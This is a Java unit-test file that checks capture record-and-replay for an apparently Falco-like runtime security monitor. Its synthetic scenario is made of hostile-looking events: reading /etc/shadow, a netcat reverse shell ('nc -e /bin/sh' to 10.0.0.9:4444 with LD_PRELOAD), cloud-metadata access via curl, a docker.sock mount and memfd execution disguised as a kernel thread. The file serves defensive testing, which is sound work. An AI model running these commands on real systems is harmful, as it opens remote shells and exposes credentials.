package dev.falconet.capture;

import static org.assertj.core.api.Assertions.assertThat;

import dev.falconet.event.ContainerInfo;
import dev.falconet.event.Event;
import dev.falconet.event.K8sInfo;
import dev.falconet.fields.ArgKind;
import dev.falconet.fields.BindResult;
import dev.falconet.fields.BoundField;
import dev.falconet.fields.FieldDef;
import dev.falconet.fields.FieldRegistry;
import dev.falconet.fields.OpenFlags;
import dev.falconet.fields.UseContext;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;

class CaptureRoundTripTest {

    /** Every field of the registry, bound with representative arguments, in conditions and in outputs. */
    static List<BoundField> everyFieldUse() {
        FieldRegistry r = FieldRegistry.standard();
        List<BoundField> out = new ArrayList<>();
        for (FieldDef d : r.all()) {
            for (String arg : argsFor(d)) {
                for (UseContext ctx : UseContext.values()) {
                    BindResult b = r.bind(d.name(), arg, ctx);
                    if (b.isOk()) out.add(b.field());
                }
            }
        }
        return out;
    }

    private static List<String> argsFor(FieldDef d) {
        return switch (d.name()) {
            case "evt.arg" -> Arrays.asList("0", "1", "3", "flags", "name", "fd", "domain", "request", "target", "args", "env");
            case "evt.rawarg" -> List.of("res", "fd", "flags", "name", "tuple", "args", "pid");
            case "proc.env", "proc.aenv" -> Arrays.asList(null, "HOME", "1", "PATH");
            default -> {
                ArgKind k = d.argKind();
                if (k == ArgKind.NONE) yield Arrays.asList((String) null);
                List<String> args = new ArrayList<>();
                if (!k.required()) args.add(null);
                if (k.acceptsIndex()) args.addAll(List.of("0", "1", "2", "3", "4", "5", "6"));
                if (k.acceptsKey()) args.addAll(List.of("app", "/var/run/docker.sock", "/proc*", "/", "HOME"));
                yield args;
            }
        };
    }

    /** A varied scenario: host logins, containers in and out of pods, files, sockets, links, failures, state changes. */
    static void scenario(EventFactory f, Consumer<Event> sink) {
        EventFactory.HostShell alice = f.hostShell("alice", 1000);
        Event cat = f.execve(alice.bash(), "/usr/bin/cat", "/etc/shadow");
        sink.accept(cat);
        sink.accept(f.openat(cat.thread(), "/etc/shadow", OpenFlags.O_RDONLY | OpenFlags.O_CLOEXEC));
        sink.accept(f.openatFailing(cat.thread(), "/etc/sudoers", OpenFlags.O_RDONLY, 13));
        sink.accept(f.open(cat.thread(), "relative/file.txt", OpenFlags.O_WRONLY | OpenFlags.O_CREAT | OpenFlags.O_TRUNC));
        sink.accept(f.creat(cat.thread(), "/tmp/run.sh", 0755));
        EventFactory.HostShell root = f.hostShell("root", 0);
        Event ln = f.execve(root.bash(), "/usr/bin/ln", "-s", "/etc/shadow", "/tmp/x");
        sink.accept(ln);
        sink.accept(f.symlinkat(ln.thread(), "/etc/shadow", "/tmp/x"));
        sink.accept(f.symlink(ln.thread(), "/etc/passwd", "y"));
        sink.accept(f.linkat(ln.thread(), "/etc/shadow", "/tmp/z"));
        sink.accept(f.unlinkat(ln.thread(), "/tmp/z"));
        f.advance(Duration.ofSeconds(3));
        Event nc = f.exec(root.bash(), "/usr/bin/nc", "-e", "/bin/sh", "10.0.0.9", "4444").env("LD_PRELOAD=/tmp/x.so").run();
        sink.accept(nc);
        Event conn = f.connect(nc.thread(), "10.0.0.9", 4444);
        sink.accept(conn);
        sink.accept(f.dup2(nc.thread(), conn.fd().num(), 0));
        sink.accept(f.dup(nc.thread(), conn.fd().num()));
        sink.accept(f.dup3(nc.thread(), conn.fd().num(), 2));
        sink.accept(f.connect(nc.thread(), "fd00::1", 8443));
        Event sock = f.socket(nc.thread(), SyscallArgs.AF_INET, SyscallArgs.SOCK_DGRAM, 0);
        sink.accept(sock);
        sink.accept(f.sendto(nc.thread(), sock.fd().num(), "8.8.8.8", 53, new byte[] {0x12, 0x34, 1, 0, 0, 1, 'a', (byte) 0xff}));
        sink.accept(f.connect(nc.thread(), sock.fd().num(), "8.8.8.8", 53));
        sink.accept(f.recvfrom(nc.thread(), sock.fd().num(), "reply\n".getBytes(StandardCharsets.UTF_8)));
        Event srv = f.execve(root.bash(), "/usr/sbin/nginx");
        sink.accept(f.accept(srv.thread(), "0.0.0.0", 8080, "203.0.113.7", 51515));
        sink.accept(f.exec(nc.thread(), "/bin/sh").inPlace().run());
        sink.accept(f.exec(root.bash(), "/tmp/missing").fails(2).run());

        ContainerInfo web = f.container("web", "docker.io/library/nginx:1.27").privileged(true)
                .mount("/var/run/docker.sock", "/var/run/docker.sock", true).mount("/proc", "/host/proc", false)
                .label("com.example.team", "blue").pod("prod", "web-7d4b9", Map.of("app", "web")).build();
        EventFactory.ContainerShell c = f.containerShell(web);
        Event tcpdump = f.exec(c.init(), "/usr/bin/tcpdump", "-i", "eth0").upperLayer().writable().run();
        sink.accept(tcpdump);
        sink.accept(f.socket(tcpdump.thread(), SyscallArgs.AF_PACKET, SyscallArgs.SOCK_RAW, 768));
        sink.accept(f.socket(tcpdump.thread(), SyscallArgs.AF_UNIX, SyscallArgs.SOCK_STREAM, 0));
        sink.accept(f.socket(tcpdump.thread(), SyscallArgs.AF_NETLINK, SyscallArgs.SOCK_RAW, 0));
        sink.accept(f.ptrace(tcpdump.thread(), SyscallArgs.PTRACE_TRACEME, 0));
        Event memfd = f.exec(c.init(), "/proc/self/fd/3").fromMemfd().argv0("[kworker]").run();
        sink.accept(memfd);

        K8sInfo full = new K8sInfo("api-1", "uid-1", "shop", Map.of("app", "api"), "10.1.0.5", "ns-uid", Map.of("team", "a"),
                "api", "dep-uid", "api-6f9", "rs-uid", "ds", "ss", List.of("api"), "node-1", Map.of("app", "api"),
                Map.of("pod-template-hash", "6f9"), "rc", "rc-uid", Map.of("x", "y"), List.of("s1"), List.of(Map.of("app", "api")));
        ContainerInfo api = f.container("api", "ghcr.io/shop/api@sha256:abc").type("cri-o").k8s(full).build();
        EventFactory.ContainerShell a = f.containerShell(api);
        Event curl = f.execve(a.init(), "/usr/bin/curl", "http://169.254.169.254/latest/meta-data");
        sink.accept(curl);
        sink.accept(f.connect(curl.thread(), "169.254.169.254", 80));
        // the thread changes user in place (setuid), then does more: its record must be written again
        curl.thread().uid(33).userName("www-data");
        sink.accept(f.openat(curl.thread(), "/var/www/index.html", OpenFlags.O_RDONLY));
        sink.accept(f.event(curl.thread(), "setuid", 0, null, SyscallArgs.res(0), dev.falconet.event.Arg.num("uid", 33)));
    }

    private static Object[] snapshot(List<BoundField> uses, Event e) {
        Object[] v = new Object[uses.size()];
        for (int i = 0; i < v.length; i++) v[i] = uses.get(i).extract(e);
        return v;
    }

    @Test
    void recordAndReplayGiveTheSameValueForEveryFieldOfEveryEvent() {
        List<BoundField> uses = everyFieldUse();
        assertThat(uses.size()).isGreaterThan(500);
        EventFactory f = new EventFactory();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        List<Object[]> expected = new ArrayList<>();
        List<Event> written = new ArrayList<>();
        try (CaptureWriter w = new CaptureWriter(bytes, "memory", CaptureHeader.now("lab-host", "synthetic"))) {
            scenario(f, e -> {
                expected.add(snapshot(uses, e));
                written.add(e);
                w.write(e);
            });
        }
        String text = bytes.toString(StandardCharsets.UTF_8);

        int n = 0;
        try (CaptureReader r = new CaptureReader(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)), "memory")) {
            assertThat(r.header().hostname()).isEqualTo("lab-host");
            assertThat(r.header().source()).isEqualTo("synthetic");
            for (Event e = r.next(); e != null; e = r.next()) {
                Event orig = written.get(n);
                assertThat(e.num()).isEqualTo(orig.num());
                assertThat(e.ts()).isEqualTo(orig.ts());
                assertThat(e.type()).isEqualTo(orig.type());
                assertThat(e.res()).isEqualTo(orig.res());
                assertThat(e.cpu()).isEqualTo(orig.cpu());
                assertThat(e.args()).isEqualTo(orig.args());
                assertThat(e.fd()).isEqualTo(orig.fd());
                Object[] got = snapshot(uses, e);
                Object[] want = expected.get(n);
                for (int i = 0; i < got.length; i++) {
                    if (!Objects.deepEquals(got[i], want[i])) {
                        throw new AssertionError("event " + e.num() + " (" + e.typeName() + "), field " + uses.get(i).displayName()
                                + " in " + uses.get(i).multiplicity() + ": recorded " + FieldRegistry.renderValue(want[i])
                                + ", replayed " + FieldRegistry.renderValue(got[i]));
                    }
                }
                n++;
            }
        }
        assertThat(n).isEqualTo(written.size()).isGreaterThan(25);
    }

    @Test
    void stateRecordsAreWrittenOnlyWhenNeededAndWhenChanged() {
        EventFactory f = new EventFactory();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        EventFactory.HostShell login = f.hostShell("alice", 1000);
        try (CaptureWriter w = new CaptureWriter(bytes, "memory", CaptureHeader.now("h", "synthetic"))) {
            Event cat = f.execve(login.bash(), "/usr/bin/cat", "/etc/hosts");
            w.write(cat);
            w.write(f.openat(cat.thread(), "/etc/hosts", OpenFlags.O_RDONLY));
            w.write(f.openat(cat.thread(), "/etc/hostname", OpenFlags.O_RDONLY));
            cat.thread().cwd("/tmp");
            w.write(f.openat(cat.thread(), "x", OpenFlags.O_RDONLY));
            assertThat(w.eventCount()).isEqualTo(4);
        }
        List<String> lines = bytes.toString(StandardCharsets.UTF_8).lines().toList();
        assertThat(lines.get(0)).startsWith("{\"format\":\"falconet-capture\",\"version\":1,\"hostname\":\"h\"");
        long threadRecords = lines.stream().filter(l -> l.startsWith("{\"kind\":\"thread\"")).count();
        // systemd, sshd, session sshd, bash, cat; then cat once more after its cwd changed
        assertThat(threadRecords).isEqualTo(6);
        assertThat(lines.stream().filter(l -> l.startsWith("{\"kind\":\"event\"")).count()).isEqualTo(4);
        assertThat(lines.get(1)).contains("\"comm\":\"systemd\"");
        assertThat(lines).anySatisfy(l -> assertThat(l).startsWith("{\"kind\":\"event\",\"num\":2,").contains(
                "[\"flags\",\"FLAGS\",1,\"O_RDONLY\"]").contains("\"fd\":{\"num\":3,\"type\":\"FILE\",\"name\":\"/etc/hosts\""));
    }

    @Test
    void handWrittenCaptureWithDefaultsAndIsoTime() {
        String capture = """
                {"format":"falconet-capture","version":1,"hostname":"lab","created":"2026-01-15T10:00:00Z","source":"hand"}
                {"kind":"container","id":"0123456789ab","type":"podman","name":"c1","image":"alpine:3.20","privileged":false}
                {"kind":"thread","tid":10,"pid":10,"ptid":1,"comm":"sh","exe":"sh","exepath":"/bin/sh","cwd":"/","uid":0,"gid":0,"loginuid":-1,"user":"root","group":"root","container":"0123456789ab"}

                {"kind":"event","num":1,"time":"2026-01-15T10:00:01.5Z","type":"openat","tid":10,"res":3,"args":[["fd","FD",3,"<f>/etc/shadow"],["name","FSPATH","/etc/shadow"]],"fd":{"num":3,"type":"FILE","name":"/etc/shadow"}}
                """;
        try (CaptureReader r = new CaptureReader(new ByteArrayInputStream(capture.getBytes(StandardCharsets.UTF_8)), "hand.jsonl")) {
            Event e = r.next();
            assertThat(e.ts()).isEqualTo(EventFactory.START_TS + 1_500_000_000L);
            assertThat(e.thread().container().name()).isEqualTo("c1");
            assertThat(e.thread().parent()).isNull();
            assertThat(e.cpu()).isEqualTo(-1);
            assertThat(e.arg("name").rendered()).isEqualTo("/etc/shadow");
            assertThat(r.next()).isNull();
        }
    }
}
